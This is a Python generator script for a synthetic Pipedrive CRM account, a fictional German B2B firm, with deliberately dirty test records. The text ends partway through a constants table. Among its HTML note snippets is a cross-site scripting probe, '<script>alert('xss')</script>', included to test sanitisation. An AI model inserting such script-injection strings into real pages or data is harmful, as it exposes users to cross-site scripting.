#!/usr/bin/env python3
"""Generate a synthetic Pipedrive account as an offline snapshot (one JSON Lines file per collection).

Every line is one record exactly as the Pipedrive API returns it inside `data`:
v2 shape for collections that have a v2 list endpoint (persons, organizations, deals,
deals/archived, deals/products, products, activities, pipelines, stages, *Fields), v1 shape
for v1-only collections (users, notes, leads, activityTypes, currencies, leadLabels).
See the Pipedrive extraction contract (§7 record shapes, §8 fields, §8.4 custom-field encodings).

Two modes:

* sample (``scale=None``): a small German/European B2B company, "Nordlicht Systems GmbH",
  with a few hundred records and deliberate dirty data (see samples/README.md).
* scale (``scale=N``): roughly N records with realistic proportions, streamed straight to the
  files. Cross references (a person's organisation, a deal's title, ...) are derived from the
  record id with an integer hash, so nothing but a few compact int arrays is held in memory.

Same seed and scale -> byte-identical files.

    python samples/generate.py --out samples/pipedrive --seed 7
    python samples/generate.py --out /tmp/big --records 1000000
"""

from __future__ import annotations

import argparse
import calendar
import hashlib
import json
import random
import sys
import time
import uuid
from array import array
from pathlib import Path
from typing import Any

__all__ = ["generate_account", "COLLECTION_FILES", "CUSTOM_FIELD_TYPES", "COMPANY"]

# ---------------------------------------------------------------------------------------------
# constants

COLLECTION_FILES = (
    "users", "currencies", "activityTypes", "leadLabels", "pipelines", "stages",
    "personFields", "organizationFields", "dealFields", "productFields", "activityFields",
    "organizations", "persons", "products", "deals", "deals_archived", "deal_products",
    "leads", "leads_archived", "activities", "notes",
)

CUSTOM_FIELD_TYPES = (
    "varchar", "varchar_auto", "text", "double", "monetary", "set", "enum", "user", "org",
    "people", "phone", "time", "timerange", "date", "daterange", "address",
)

COMPANY = {"company_id": 9876543, "company_name": "Nordlicht Systems GmbH", "company_domain": "nordlicht-systems"}

START = calendar.timegm((2021, 1, 4, 8, 0, 0))       # company created its Pipedrive account
SNAPSHOT = calendar.timegm((2025, 6, 30, 12, 0, 0))  # "now" of the snapshot
DAY = 86400
SPAN = SNAPSHOT - START - 30 * DAY
MASK64 = (1 << 64) - 1

_dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode


def t2(ts: float) -> str:
    """v2 RFC 3339 UTC."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def t1(ts: float) -> str:
    """v1 `YYYY-MM-DD HH:MM:SS` UTC."""
    return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(ts))


def tl(ts: float, ms: int) -> str:
    """v1 lead/lead label ISO 8601 with milliseconds and Z."""
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts)) + f".{ms:03d}Z"


def d(ts: float) -> str:
    return time.strftime("%Y-%m-%d", time.gmtime(ts))


def _mix(x: int) -> int:
    x &= MASK64
    x = ((x ^ (x >> 33)) * 0xFF51AFD7ED558CCD) & MASK64
    x = ((x ^ (x >> 33)) * 0xC4CEB9FE1A85EC53) & MASK64
    return x ^ (x >> 33)


# ---------------------------------------------------------------------------------------------
# pools (German / European flavour)

FIRST = (
    "Anna", "Lukas", "Sophie", "Maximilian", "Marie", "Felix", "Lea", "Jonas", "Laura", "Paul",
    "Hannah", "Leon", "Mia", "Tobias", "Julia", "Niklas", "Katharina", "Florian", "Sarah",
    "Sebastian", "Lena", "Moritz", "Clara", "Jan", "Emma", "Matteo", "Chiara", "Pierre", "Camille",
    "Lars", "Ingrid", "Piotr", "Agnieszka", "Tomáš", "Zuzana", "Björn", "Åsa", "Søren", "Mette",
    "Giulia", "Luca", "Élodie", "François", "Jürgen", "Jörg", "Bärbel", "Günther", "Dörte",
    "Małgorzata", "Łukasz", "Oğuz", "Ayşe", "Núria", "José", "Sven", "Heike", "Ralf", "Sabine",
)
LAST = (
    "Müller", "Schmidt", "Schneider", "Fischer", "Weber", "Meyer", "Wagner", "Becker", "Schulz",
    "Hoffmann", "Koch", "Richter", "Klein", "Wolf", "Schröder", "Neumann", "Schwarz", "Zimmermann",
    "Braun", "Krüger", "Hofmann", "Hartmann", "Lange", "Schmitt", "Werner", "Krause", "Meier",
    "Lehmann", "Schmid", "Schulze", "Maier", "Köhler", "Herrmann", "König", "Walter", "Huber",
    "Gruber", "Dubois", "Rossi", "Nowak", "Kowalski", "Novák", "Svensson", "Jensen", "Andersen",
    "Janssen", "de Vries", "García", "Öztürk", "Łączkowski", "van den Berg", "O'Connor", "Brandl",
)
ORG_CORE = (
    "Nordwind", "Alpen", "Rhein", "Elbe", "Hanse", "Isar", "Bodensee", "Spree", "Main", "Donau",
    "Schwarzwald", "Ostsee", "Taunus", "Harz", "Allgäu", "Mosel", "Weser", "Zugspitz", "Lausitz",
    "Eifel", "Sonnenberg", "Falkner", "Lindholm", "Brückner", "Adler", "Kranich", "Greif", "Polaris",
)
ORG_SECTOR = (
    "Logistik", "Maschinenbau", "Software", "Medizintechnik", "Bau", "Energie", "Consulting",
    "Automation", "Lebensmittel", "Druck", "Elektro", "Immobilien", "Textil", "Verpackung", "Solar",
    "Pharma", "Holzbau", "Kältetechnik", "Robotik", "Fahrzeugtechnik",
)
# city, postal code, state, country, phone prefix, legal forms, tld, timezone
CITIES = (
    ("Berlin", "10115", "Berlin", "Deutschland", "+49 30", ("GmbH", "AG", "GmbH & Co. KG", "UG (haftungsbeschränkt)"), "de", "Europe/Berlin"),
    ("Hamburg", "20095", "Hamburg", "Deutschland", "+49 40", ("GmbH", "KG", "GmbH & Co. KG"), "de", "Europe/Berlin"),
    ("München", "80331", "Bayern", "Deutschland", "+49 89", ("GmbH", "AG", "SE"), "de", "Europe/Berlin"),
    ("Köln", "50667", "Nordrhein-Westfalen", "Deutschland", "+49 221", ("GmbH", "e.K.", "OHG"), "de", "Europe/Berlin"),
    ("Frankfurt am Main", "60311", "Hessen", "Deutschland", "+49 69", ("GmbH", "AG"), "de", "Europe/Berlin"),
    ("Stuttgart", "70173", "Baden-Württemberg", "Deutschland", "+49 711", ("GmbH", "GmbH & Co. KG"), "de", "Europe/Berlin"),
    ("Düsseldorf", "40213", "Nordrhein-Westfalen", "Deutschland", "+49 211", ("GmbH",), "de", "Europe/Berlin"),
    ("Leipzig", "04109", "Sachsen", "Deutschland", "+49 341", ("GmbH", "e.K."), "de", "Europe/Berlin"),
    ("Nürnberg", "90402", "Bayern", "Deutschland", "+49 911", ("GmbH", "KG"), "de", "Europe/Berlin"),
    ("Bremen", "28195", "Bremen", "Deutschland", "+49 421", ("GmbH",), "de", "Europe/Berlin"),
    ("Wien", "1010", "Wien", "Österreich", "+43 1", ("GmbH", "AG", "KG"), "at", "Europe/Vienna"),
    ("Graz", "8010", "Steiermark", "Österreich", "+43 316", ("GmbH",), "at", "Europe/Vienna"),
    ("Zürich", "8001", "Zürich", "Schweiz", "+41 44", ("AG", "GmbH"), "ch", "Europe/Zurich"),
    ("Basel", "4051", "Basel-Stadt", "Schweiz", "+41 61", ("AG",), "ch", "Europe/Zurich"),
    ("Amsterdam", "1012 JS", "Noord-Holland", "Niederlande", "+31 20", ("B.V.",), "nl", "Europe/Amsterdam"),
    ("Paris", "75002", "Île-de-France", "Frankreich", "+33 1", ("SARL", "SAS"), "fr", "Europe/Paris"),
    ("Kraków", "31-005", "Małopolskie", "Polen", "+48 12", ("Sp. z o.o.",), "pl", "Europe/Warsaw"),
    ("Praha", "110 00", "Praha", "Tschechien", "+420 2", ("s.r.o.",), "cz", "Europe/Prague"),
    ("København", "1050", "Hovedstaden", "Dänemark", "+45 33", ("ApS", "A/S"), "dk", "Europe/Copenhagen"),
    ("London", "EC2A 4NE", "England", "Vereinigtes Königreich", "+44 20", ("Ltd", "PLC"), "co.uk", "Europe/London"),
    ("Göteborg", "411 03", "Västra Götaland", "Schweden", "+46 31", ("AB",), "se", "Europe/Stockholm"),
)
STREETS = (
    "Hauptstraße", "Bahnhofstraße", "Gartenstraße", "Schillerstraße", "Goethestraße", "Lindenallee",
    "Industriestraße", "Am Hafen", "Königsallee", "Friedrichstraße", "Rosenweg", "Mühlenweg",
    "Am Güterbahnhof", "Max-Planck-Straße", "Carl-Zeiss-Ring",
)
TIMEZONES = {
    "Europe/Berlin": 264, "Europe/Vienna": 280, "Europe/Zurich": 283, "Europe/Amsterdam": 256,
    "Europe/Paris": 277, "Europe/Warsaw": 281, "Europe/Prague": 276, "Europe/Copenhagen": 262,
    "Europe/London": 318, "Europe/Stockholm": 279,
}
MARKETING_STATUSES = ("subscribed", "no_consent", "no_consent", "subscribed", "unsubscribed", "archived", None)
FREEMAIL = ("gmx.de", "web.de", "t-online.de", "gmail.com", "outlook.com", "posteo.de", "bluewin.ch", "gmx.at")
JOB_TITLES = (
    "Geschäftsführer", "Geschäftsführerin", "Einkaufsleiter", "Leiterin Vertrieb", "IT-Leiter",
    "CTO", "Head of Operations", "Assistentin der Geschäftsleitung", "Projektleiter", "Prokurist",
    "Inhaber", "Teamleiterin Buchhaltung", "Key Account Manager", "Werkleiter",
)
DEAL_TOPICS = (
    "CRM-Einführung", "Lizenzerweiterung", "Rahmenvertrag", "Wartungsvertrag", "Pilotprojekt",
    "Schulungspaket", "Datenmigration", "Schnittstelle SAP", "Hosting-Verlängerung", "Rollout Phase 2",
    "Support-Upgrade", "Mobile App", "Lagerverwaltung", "Beratungsmandat",
)
LOST_REASONS = (
    "Preis zu hoch", "Wettbewerber gewählt", "Kein Budget", "Projekt verschoben", "Keine Rückmeldung",
    None, "Zu teuer – hat sich für Salesforce entschieden", "Entscheider hat gewechselt",
)
TRANSLIT = str.maketrans({
    "ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "Ä": "ae", "Ö": "oe", "Ü": "ue", "å": "a", "Å": "a",
    "ø": "o", "Ø": "o", "æ": "ae", "é": "e", "É": "e", "è": "e", "ê": "e", "á": "a", "à": "a",
    "ç": "c", "ł": "l", "Ł": "l", "ń": "n", "ó": "o", "ś": "s", "ż": "z", "ź": "z", "ą": "a",
    "ę": "e", "č": "c", "š": "s", "ž": "z", "ř": "r", "ý": "y", "í": "i", "ú": "u", "ů": "u",
    "ğ": "g", "ş": "s", "ı": "i", "ñ": "n", "Ž": "z", "Š": "s", "Č": "c",
    " ": "", "'": "", "&": "", ".": "", "(": "", ")": "",
})

NOTE_SNIPPETS = (
    "<p>Telefonat mit {person}: Budget für Q3 ist freigegeben, Entscheidung bis Monatsende.</p>",
    "<p>Kunde wünscht:</p><ul><li>Schnittstelle zu SAP</li><li>Schulung vor Ort</li><li>Single Sign-on</li></ul>",
    "<b>Wichtig:</b> Vertrag läuft am 31.12. aus<br>Verlängerung rechtzeitig anbieten<br/>Ansprechpartner: {person}",
    "<p>Siehe <a href=\"https://www.example.com/angebot?id=42&amp;v=2\">Angebot v2</a> &amp; AGB.</p>",
    "<p>Preisübersicht:</p><table><tr><th>Position</th><th>Preis</th></tr><tr><td>Lizenz</td><td>1.200&nbsp;€</td></tr><tr><td>Schulung</td><td>800&nbsp;€</td></tr></table>",
    "<p>Screenshot vom Fehlerbild:</p><img src=\"https://nordlicht-systems.pipedrive.com/api/v1/files/123/download\" alt=\"Screenshot\">",
    "<script>alert('xss')</script><p>Notiz nach dem Messegespräch mit {person}.</p>",
    "&lt;Kunde&gt; meint: &quot;passt so&quot; &amp; bittet um Rechnung in &#8364;.",
    "Rückruf am Montag vereinbart.",
    "<p>Super Termin 🎉👍 – {person} war begeistert.</p>",
    "<ol><li>Demo zeigen</li><li><i>Preise</i> klären</li><li><u>Vertrag</u> schicken</li></ol>",
    "<p><strong>Protokoll</strong></p><p>Teilnehmer: {person}, Vertrieb</p><p>Nächste Schritte: Angebot bis Freitag.</p>",
    "<div>Kurzer Austausch per Mail.<br><br>Kein Bedarf vor 2026.</div>",
    "<p>Zitat: <blockquote>Wir brauchen das gestern.</blockquote></p><hr><p>Follow-up in 2 Wochen</p>",
)
ACTIVITY_SUBJECTS = {
    "call": ("Rückruf wegen Angebot", "Erstgespräch", "Nachfassen Angebot", "Telefontermin Bedarfsanalyse"),
    "meeting": ("Vor-Ort-Termin", "Workshop Anforderungen", "Quartalsgespräch", "Vertragsbesprechung"),
    "task": ("Angebot erstellen", "Unterlagen zusammenstellen", "Referenzen schicken", "CRM-Daten pflegen"),
    "email": ("Follow-up-Mail senden", "Infomaterial schicken", "Terminbestätigung senden"),
    "deadline": ("Angebotsfrist", "Kündigungsfrist prüfen", "Ausschreibung Abgabe"),
    "lunch": ("Mittagessen mit {first}", "Business Lunch"),
    "produktdemo": ("Produktdemo online", "Demo für IT-Abteilung"),
    "messebesuch": ("Messe Hannover – Standbesuch",),
}
ACTIVITY_TYPE_WEIGHTS = (
    ("call", 30), ("meeting", 19), ("task", 20), ("email", 15), ("deadline", 8), ("lunch", 5),
    ("produktdemo", 2), ("messebesuch", 1),
)

# ---------------------------------------------------------------------------------------------
# dirty / special records (applied whenever the id exists, so also in scale mode)

PERSON_OVERRIDES: dict[int, dict[str, Any]] = {
    3: {"name": "", "first_name": "", "last_name": "", "emails": [("info@elbe-logistik.de", "work")]},
    5: {"first_name": "Jürgen", "last_name": "Müller", "emails": [("jürgen@müller.de", "work")]},
    7: {"first_name": "Max", "last_name": "Mustermann", "emails": [("max@@example", "work")],
        "phones": [("call me", "work")]},
    9: {"first_name": "Anna", "last_name": "Schäfer", "emails": [("anna@", "work")],
        "phones": [("+49 30 1234567 ext. 12", "work")]},
    11: {"first_name": "Zoë 🚀", "last_name": "Schneider"},
    13: {"first_name": "דוד", "last_name": "לוי", "org": 4},
    15: {"name": "  Peter   Lustig ", "first_name": "Peter", "last_name": "Lustig"},
    17: {"first_name": "Laura", "last_name": "Weber", "emails": [("laura.weber@hanse-logistik.de", "work")]},
    18: {"first_name": "Laura", "last_name": "Weber", "emails": [("laura.weber@hanse-logistik.de", "work")]},
    19: {"first_name": "Heinz", "last_name": "Kunze", "phones": [("030 1234567", "work"), ("0171/2345678", "mobile")]},
    21: {"first_name": "Sabine", "last_name": "Vogt",
         "emails": [("s.vogt@firma.de", "work"), ("sabine.vogt@gmx.de", "home"), ("sabine@vogt-family.de", "other")],
         "phones": [("+49 89 4455667", "work"), ("+49 160 9988776", "mobile"), ("+43 1 5320000", "other")]},
    23: {"first_name": "Dr. med. Hans-Peter", "last_name": "Graf von Schönburg-Glauchau"},
    25: {"first_name": "Gertrud", "last_name": "Alt", "birthday_cf": "1970-01-01"},
    27: {"name": "Madonna", "first_name": "Madonna", "last_name": ""},
    29: {"first_name": "محمد", "last_name": "العلي", "org": 4},
    31: {"first_name": "Ohne", "last_name": "Kontaktdaten", "emails": [], "phones": []},
    33: {"first_name": "Thomas", "last_name": "Meier", "emails": [(" Thomas.Meier@Example.COM ", "work")]},
    35: {"first_name": "Łukasz", "last_name": "Łączkowski", "org": 16, "phones": [("+48 12 345 67 89", "work")]},
    37: {"first_name": "Nina", "last_name": "Verwaist", "org": 40},  # org 40 is deleted
    39: {"first_name": "Ivan", "last_name": "Petrov", "org": 14, "emails": [("i.petrov@sibtech.ru", "work")],
         "phones": [("8 (495) 123-45-67", "work")]},
}
ORG_OVERRIDES: dict[int, dict[str, Any]] = {
    2: {"name": "Müller GmbH", "city": 0, "domain": "mueller-gmbh.de"},
    3: {"name": "Müller GmbH", "city": 2, "domain": "mueller-muenchen.de"},
    4: {"name": "شركة الأمل للتجارة ذ.م.م", "city": None, "address": {
        "value": "Sheikh Zayed Road 12, Dubai", "country": "Vereinigte Arabische Emirate",
        "admin_area_level_1": "Dubai", "admin_area_level_2": None, "locality": "Dubai", "sublocality": None,
        "route": "Sheikh Zayed Road", "street_number": "12", "subpremise": None, "postal_code": None,
        "formatted_address": "Sheikh Zayed Road 12 - Dubai - Vereinigte Arabische Emirate"}},
    6: {"name": "Café Zürich & Söhne AG", "city": 12},
    8: {"name": "🚀 Rocket Startup UG (haftungsbeschränkt)", "city": 0},
    10: {"name": "Alpen Holzbau GmbH", "city": 10, "address": None},
    12: {"name": "Isar Consulting GmbH", "city": 2, "address": "value-only"},
    14: {"name": "ООО «Сибирские Технологии»", "city": None, "address": {
        "value": "ул. Тверская, 7, Москва", "country": "Russland", "admin_area_level_1": "Moskau",
        "admin_area_level_2": None, "locality": "Moskau", "sublocality": None, "route": "ул. Тверская",
        "street_number": "7", "subpremise": None, "postal_code": "125009",
        "formatted_address": "ул. Тверская, 7, Москва, Russland, 125009"}},
    16: {"name": "Wisła Systemy Sp. z o.o.", "city": 16},
    18: {"name": "Nordlicht Systems GmbH", "city": 1},  # the company itself, entered as an org
}
DEAL_OVERRIDES: dict[int, dict[str, Any]] = {
    2: {"value": 0, "status": "open", "title": "Kostenloser Pilot (0 €)"},
    3: {"expected_close_date": "2099-12-31", "status": "open"},
    5: {"person": 40, "status": "open"},  # person 40 is deleted
    7: {"currency": "RUB", "org": 14, "person": 39, "status": "open", "products": 0, "value": 1250000},
    9: {"currency": "PKT", "status": "won", "products": 0, "value": 5000, "title": "Treuepunkte-Aktion Frühjahr"},
    13: {"start_cf": "1970-01-01"},
    15: {"title": "Rahmenvertrag 2025 🚀 – שלב ב"},
    17: {"currency": "USD", "org": 4, "person": 29},
    19: {"currency": "GBP"},
    21: {"currency": "CHF", "org": 6},
}

# ---------------------------------------------------------------------------------------------
# field metadata


def _slug(text: str) -> str:
    out = text.lower().translate(TRANSLIT)
    return "".join(ch for ch in out if ch.isascii() and (ch.isalnum() or ch in ".-_"))


class _Field:
    __slots__ = ("entity", "name", "type", "key", "options", "fill", "code")

    def __init__(self, entity: str, code: str, name: str, ftype: str, key: str, options: list[dict] | None, fill: float):
        self.entity, self.code, self.name, self.type, self.key = entity, code, name, ftype, key
        self.options, self.fill = options, fill


ADDRESS_PARTS = ("subpremise", "street_number", "route", "sublocality", "locality",
                 "admin_area_level_1", "admin_area_level_2", "country", "postal_code", "formatted_address")

CUSTOM_FIELDS = {
    # entity: [(code, name, type, option labels | None, fill probability)]
    "person": [
        ("P_EMAIL", "Email", "varchar", None, 0.2),
        ("P_MOBILE", "Mobil (privat)", "phone", None, 0.3),
        ("P_BIRTH", "Geburtstag", "date", None, 0.25),
        ("P_SALUT", "Anrede", "enum", ["Herr", "Frau", "Divers", "Dr."], 0.7),
        ("P_INTEREST", "Interessen", "set", ["CRM", "ERP", "Cloud", "Beratung", "Schulung"], 0.4),
        ("P_CALLTIME", "Beste Anrufzeit", "time", None, 0.15),
        ("P_ASSIST", "Assistenz", "people", None, 0.05),
    ],
    "organization": [
        ("O_VAT", "USt-IdNr.", "varchar", None, 0.5),
        ("O_ASSOC", "Einkaufsverband", "varchar_auto", None, 0.3),
        ("O_PROFILE", "Firmenprofil", "text", None, 0.25),
        ("O_BILLADDR", "Rechnungsadresse", "address", None, 0.3),
        ("O_SCORE", "Bonitätsindex", "double", None, 0.4),
        ("O_AM", "Account Manager", "user", None, 0.5),
        ("O_PARENT", "Mutterkonzern", "org", None, 0.08),
        ("O_TIER", "Kundenklasse", "enum", ["A-Kunde", "B-Kunde", "C-Kunde"], 0.6),
    ],
    "deal": [
        ("D_BUDGET", "Budget", "monetary", None, 0.4),
        ("D_PERIOD", "Projektzeitraum", "daterange", None, 0.3),
        ("D_SLOT", "Workshop-Termin", "timerange", None, 0.15),
        ("D_SOURCE", "Lead-Quelle", "enum", ["Messe", "messe", "Website", "Empfehlung", "Kaltakquise", "Partner"], 0.6),
        ("D_MODULES", "Module", "set", ["CRM", "ERP", "BI", "Support Plus"], 0.5),
        ("D_TECH", "Technischer Ansprechpartner", "people", None, 0.2),
        ("D_PARTNER", "Vertriebspartner", "org", None, 0.1),
        ("D_START", "Vertragsbeginn", "date", None, 0.3),
        ("D_DISCOUNT", "Rabatt (%)", "double", None, 0.25),
        ("D_PO", "Bestellnummer", "varchar", None, 0.2),
        ("D_REQ", "Anforderungen", "text", None, 0.2),
        ("D_PRESALES", "Pre-Sales Engineer", "user", None, 0.2),
    ],
    "product": [
        ("PR_MPN", "Hersteller-Artikelnummer", "varchar", None, 0.6),
        ("PR_LIC", "Lizenzmodell", "enum", ["Abonnement", "Einmalkauf", "Miete"], 0.7),
        ("PR_WEIGHT", "Gewicht (kg)", "double", None, 0.3),
        ("PR_SPECS", "Technische Daten", "text", None, 0.3),
    ],
}

SUBFIELDS = {
    "monetary": [("value", "double"), ("currency", "varchar")],
    "daterange": [("value", "date"), ("until", "date")],
    "time": [("value", "time"), ("timezone_id", "int"), ("timezone_name", "varchar")],
    "timerange": [("value", "time"), ("until", "time"), ("timezone_id", "int"), ("timezone_name", "varchar")],
    "address": [("value", "varchar")] + [(p, "varchar") for p in ADDRESS_PARTS],
}

OPTION_TIME = "2021-01-04T09:00:00Z"


def _opt(oid: int, label: str, color: str | None = None) -> dict[str, Any]:
    return {"id": oid, "label": label, "color": color, "add_time": OPTION_TIME, "update_time": OPTION_TIME}


PERSON_LABELS = [_opt(1, "Kunde", "green"), _opt(2, "Interessent", "blue"), _opt(3, "Partner", "purple"), _opt(4, "VIP", "red")]
ORG_LABELS = [_opt(5, "Kunde", "green"), _opt(6, "Lieferant", "yellow"), _opt(7, "Kalt", "blue"), _opt(8, "Warm", "orange")]
DEAL_LABELS = [_opt(9, "Heiß", "red"), _opt(10, "Kalt", "blue"), _opt(11, "Verlängerung", "purple")]
INDUSTRY = [_opt(i + 1, lab) for i, lab in enumerate((
    "Maschinenbau", "Software & IT", "Logistik", "Gesundheitswesen", "Bauwesen", "Energie",
    "Beratung", "Handel", "Lebensmittel", "Finanzdienstleistungen"))]
PRIORITY = [_opt(1, "Niedrig"), _opt(2, "Mittel"), _opt(3, "Hoch")]
CHANNELS = [_opt(1, "Messe"), _opt(2, "Website"), _opt(3, "Telefon"), _opt(4, "Partnernetzwerk")]
PRODUCT_CATEGORY = [_opt(1, "Software"), _opt(2, "Dienstleistung"), _opt(3, "Hardware")]
VISIBLE_TO = [{"id": 1, "label": "Owner & followers", "color": None}, {"id": 3, "label": "Entire company", "color": None}]
DEAL_STATUS = [{"id": "open", "label": "Open", "color": None}, {"id": "won", "label": "Won", "color": None},
               {"id": "lost", "label": "Lost", "color": None}, {"id": "deleted", "label": "Deleted", "color": None}]
BILLING = [{"id": v, "label": v, "color": None} for v in ("one-time", "weekly", "monthly", "quarterly", "semi-annually", "annually")]

SYSTEM_FIELDS: dict[str, list[tuple]] = {
    # entity: [(field_code, field_name, field_type, options | None, subfields_type | None, optional_response)]
    "person": [
        ("id", "ID", "int", None, None, False),
        ("name", "Name", "varchar", None, None, False),
        ("first_name", "First name", "varchar", None, None, False),
        ("last_name", "Last name", "varchar", None, None, False),
        ("owner_id", "Owner", "user", None, None, False),
        ("org_id", "Organization", "org", None, None, False),
        ("emails", "Email", "varchar", None, None, False),
        ("phones", "Phone", "phone", None, None, False),
        ("label_ids", "Labels", "set", PERSON_LABELS, None, False),
        ("visible_to", "Visible to", "visible_to", VISIBLE_TO, None, False),
        ("picture_id", "Profile picture", "picture", None, None, False),
        ("job_title", "Job title", "varchar", None, None, False),
        ("birthday", "Birthday", "date", None, None, False),
        ("postal_address", "Postal address", "address", None, "address", False),
        ("notes", "Notes", "text", None, None, False),
        ("im", "Instant messenger", "varchar", None, None, False),
        ("add_time", "Person created", "date", None, None, False),
        ("update_time", "Update time", "date", None, None, False),
        ("marketing_status", "Marketing status", "enum", [
            {"id": "no_consent", "label": "No consent", "color": None},
            {"id": "unsubscribed", "label": "Unsubscribed", "color": None},
            {"id": "subscribed", "label": "Subscribed", "color": None},
            {"id": "archived", "label": "Archived", "color": None}], None, True),
    ],
    "organization": [
        ("id", "ID", "int", None, None, False),
        ("name", "Name", "varchar", None, None, False),
        ("owner_id", "Owner", "user", None, None, False),
        ("address", "Address", "address", None, "address", False),
        ("label_ids", "Labels", "set", ORG_LABELS, None, False),
        ("industry", "Industry", "enum", INDUSTRY, None, False),
        ("website", "Website", "varchar", None, None, False),
        ("linkedin", "LinkedIn profile", "varchar", None, None, False),
        ("annual_revenue", "Annual revenue", "double", None, None, False),
        ("employee_count", "Number of employees", "int", None, None, False),
        ("visible_to", "Visible to", "visible_to", VISIBLE_TO, None, False),
        ("add_time", "Organization created", "date", None, None, False),
        ("update_time", "Update time", "date", None, None, False),
        ("people_count", "People", "int", None, None, True),
    ],
    "deal": [
        ("id", "ID", "int", None, None, False),
        ("title", "Title", "varchar", None, None, False),
        ("owner_id", "Owner", "user", None, None, False),
        ("creator_user_id", "Creator", "user", None, None, False),
        ("value", "Value", "monetary", None, None, False),
        ("currency", "Currency", "varchar", None, None, False),
        ("person_id", "Contact person", "people", None, None, False),
        ("org_id", "Organization", "org", None, None, False),
        ("pipeline_id", "Pipeline", "int", None, None, False),
        ("stage_id", "Stage", "stage", None, None, False),
        ("status", "Status", "status", DEAL_STATUS, None, False),
        ("probability", "Probability", "double", None, None, False),
        ("lost_reason", "Lost reason", "varchar_options", None, None, False),
        ("expected_close_date", "Expected close date", "date", None, None, False),
        ("label_ids", "Label", "set", DEAL_LABELS, None, False),
        ("visible_to", "Visible to", "visible_to", VISIBLE_TO, None, False),
        ("channel", "Source channel", "enum", CHANNELS, None, False),
        ("channel_id", "Source channel ID", "varchar", None, None, False),
        ("origin", "Source origin", "varchar", None, None, False),
        ("add_time", "Deal created", "date", None, None, False),
        ("update_time", "Update time", "date", None, None, False),
        ("stage_change_time", "Last stage change", "date", None, None, False),
        ("won_time", "Won time", "date", None, None, False),
        ("lost_time", "Lost time", "date", None, None, False),
        ("close_time", "Deal closed on", "date", None, None, False),
        ("products_count", "Products", "int", None, None, True),
    ],
    "product": [
        ("id", "ID", "int", None, None, False),
        ("name", "Name", "varchar", None, None, False),
        ("code", "Product code", "varchar", None, None, False),
        ("description", "Description", "text", None, None, False),
        ("unit", "Unit", "varchar", None, None, False),
        ("tax", "Tax", "double", None, None, False),
        ("category", "Category", "enum", PRODUCT_CATEGORY, None, False),
        ("owner_id", "Owner", "user", None, None, False),
        ("is_linkable", "Linkable", "boolean", None, None, False),
        ("visible_to", "Visible to", "visible_to", VISIBLE_TO, None, False),
        ("prices", "Unit prices", "price_list", None, None, False),
        ("billing_frequency", "Billing frequency", "billing_frequency", BILLING, None, False),
        ("add_time", "Created", "date", None, None, False),
        ("update_time", "Update time", "date", None, None, False),
    ],
    "activity": [
        ("id", "ID", "int", None, None, False),
        ("subject", "Subject", "varchar", None, None, False),
        ("type", "Type", "varchar_options", None, None, False),
        ("owner_id", "Assigned to user", "user", None, None, False),
        ("creator_user_id", "Creator", "user", None, None, False),
        ("due_date", "Due date", "date", None, None, False),
        ("due_time", "Due time", "time", None, None, False),
        ("duration", "Duration", "time", None, None, False),
        ("busy", "Free/busy", "boolean", None, None, False),
        ("done", "Done", "boolean", None, None, False),
        ("priority", "Priority", "enum", PRIORITY, None, False),
        ("note", "Note", "text", None, None, False),
        ("public_description", "Public description", "text", None, None, False),
        ("location", "Location", "address", None, "address", False),
        ("deal_id", "Deal", "deal", None, None, False),
        ("lead_id", "Lead", "lead", None, None, False),
        ("person_id", "Contact person", "people", None, None, False),
        ("org_id", "Organization", "org", None, None, False),
        ("project_id", "Project", "project", None, None, False),
        ("participants", "Participants", "people", None, None, False),
        ("attendees", "Attendees", "json", None, None, True),
        ("add_time", "Add time", "date", None, None, False),
        ("update_time", "Update time", "date", None, None, False),
        ("marked_as_done_time", "Marked as done time", "date", None, None, False),
    ],
}

FIELD_FILES = {"person": "personFields", "organization": "organizationFields", "deal": "dealFields",
               "product": "productFields", "activity": "activityFields"}


def _subfields(kind: str | None, label: str) -> list[dict[str, str]] | None:
    if kind is None:
        return None
    return [{"field_code": code, "field_name": f"{label} – {code}" if code != "value" else label, "field_type": ftype}
            for code, ftype in SUBFIELDS[kind]]


# ---------------------------------------------------------------------------------------------
# reference data


USERS = (
    # id, name, email, phone, active, admin, created, last_login, locale, tz
    (1, "Katrin Vogel", "katrin.vogel@nordlicht-systems.de", "+49 40 5550100", True, True, "2021-01-04 08:00:00", "2025-06-30 07:58:12"),
    (2, "Thomas Brandt", "thomas.brandt@nordlicht-systems.de", "+49 40 5550101", True, False, "2021-01-11 09:30:00", "2025-06-29 16:41:03"),
    (3, "Aylin Demir", "aylin.demir@nordlicht-systems.de", None, True, False, "2022-03-01 08:15:00", "2025-06-27 10:02:44"),
    (4, "Stefan Köhler", "stefan.koehler@nordlicht-systems.de", "+49 40 5550103", False, False, "2021-02-15 10:00:00", "2024-09-30 17:59:59"),
    (5, "Olivia Bennett", "olivia.bennett.sales@gmail.com", "+44 7700 900123", True, False, "2023-05-02 12:00:00", "2025-06-20 09:12:00"),
)

CURRENCIES = (
    # id, code, name, symbol, decimals, active, custom
    (1, "EUR", "Euro", "€", 2, True, False), (2, "USD", "US Dollar", "US$", 2, True, False),
    (3, "GBP", "British Pound", "£", 2, True, False), (4, "CHF", "Swiss Franc", "CHF", 2, True, False),
    (5, "JPY", "Japanese Yen", "¥", 0, True, False), (6, "SEK", "Swedish Krona", "kr", 2, True, False),
    (7, "NOK", "Norwegian Krone", "kr", 2, True, False), (8, "DKK", "Danish Krone", "kr.", 2, True, False),
    (9, "PLN", "Polish Zloty", "zł", 2, True, False), (10, "CZK", "Czech Koruna", "Kč", 2, True, False),
    (11, "HUF", "Hungarian Forint", "Ft", 2, True, False), (12, "RUB", "Russian Ruble", "₽", 2, True, False),
    (13, "UAH", "Ukrainian Hryvnia", "₴", 2, True, False), (14, "AED", "UAE Dirham", "د.إ", 2, True, False),
    (15, "TRY", "Turkish Lira", "₺", 2, True, False),
    (16, "PKT", "Treuepunkte", "Pkt", 0, True, True), (17, "GUT", "Gutschein-Einheiten", "GE", 0, False, True),
)

ACTIVITY_TYPES = (
    # id, name, key_string, icon_key, active, custom, color
    (1, "Anruf", "call", "call", True, False, None), (2, "Meeting", "meeting", "meeting", True, False, None),
    (3, "Aufgabe", "task", "task", True, False, None), (4, "Frist", "deadline", "deadline", True, False, None),
